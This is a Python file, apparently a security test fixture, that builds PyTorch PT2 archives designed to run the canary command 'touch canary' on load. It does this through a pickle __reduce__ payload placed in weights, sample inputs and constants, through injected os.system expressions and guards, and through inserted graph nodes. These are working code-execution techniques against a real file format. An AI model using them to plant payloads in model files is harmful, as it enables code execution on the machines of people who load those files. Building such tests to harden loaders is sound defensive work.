"""PT2 files that run ``touch canary`` when ``torch.export.load`` opens them or their program runs."""

import io
import json
import os
import pickle
import zipfile

COMMAND = "touch canary"
PROGRAM, SAMPLES = "archive/models/model.json", "archive/data/sample_inputs/model.pt"
WEIGHTS, CONSTANTS = "archive/data/weights/model_weights_config.json", "archive/data/constants/model_constants_config.json"


class Attack:
    def __reduce__(self):
        return os.system, (COMMAND,)


def pickled():
    """As torch.save writes it."""
    import torch

    content = io.BytesIO()
    torch.save(Attack(), content)
    return content.getvalue()


def sample_inputs(members):
    members[SAMPLES] = pickled()


def pickled_weight(members):
    config = json.loads(members[WEIGHTS])
    next(iter(config["config"].values()))["use_pickle"] = True
    members[WEIGHTS] = json.dumps(config).encode()
    members["archive/data/weights/weight_0"] = pickled()


def opaque_object(members):
    entry = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}
    members[CONSTANTS] = json.dumps({"config": {"c": entry}}).encode()
    members["archive/data/constants/opaque_obj_0"] = pickle.dumps(Attack())


def all_weights(members):
    members["archive/data/weights/model.pt"] = pickled()


def library(members):
    members["archive/data/aotinductor/model/x.so"] = b"\x7fELF"


def expression(members):
    change(members, lambda graph: each(graph, "expr_str", lambda text: f"__import__('os').system({COMMAND!r})"))


def guard(members):
    program = json.loads(members[PROGRAM])
    program["guards_code"] = [f"__import__('os').system({COMMAND!r}) == 0"]
    members[PROGRAM] = json.dumps(program).encode()


def function(members):
    def add(graph):
        argument = {"name": "command", "arg": {"as_string": COMMAND}, "kind": 1}
        tensor = graph["nodes"][0]["outputs"]
        graph["nodes"].insert(0, {**graph["nodes"][0], "target": "torch.os.system", "inputs": [argument], "outputs": tensor})

    change(members, add)


def file_by_operator(members):
    def add(graph):
        inputs = [("filename", {"as_string": "canary"}), ("shared", {"as_bool": True}), ("size", {"as_int": 8})]
        arguments = [{"name": name, "arg": value, "kind": 1} for name, value in inputs]
        change_to = {"target": "torch.ops.aten.from_file.default", "inputs": arguments}
        graph["nodes"].insert(0, {**graph["nodes"][0], **change_to})

    change(members, add)


ATTACKS = [sample_inputs, pickled_weight, opaque_object, all_weights, library, expression, function, file_by_operator]


def change(members, how):
    program = json.loads(members[PROGRAM])
    how(program["graph_module"]["graph"])
    members[PROGRAM] = json.dumps(program).encode()


def each(value, key, how):
    """Every text under ``key`` in nested JSON, changed."""
    if isinstance(value, dict):
        for name, item in value.items():
            if name == key:
                value[name] = how(item)
            each(item, key, how)
    elif isinstance(value, list):
        for item in value:
            each(item, key, how)


def attacked(source, target, *attacks):
    """Write ``source`` with attacks in it."""
    with zipfile.ZipFile(source) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    for attack in attacks:
        attack(members)
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return target
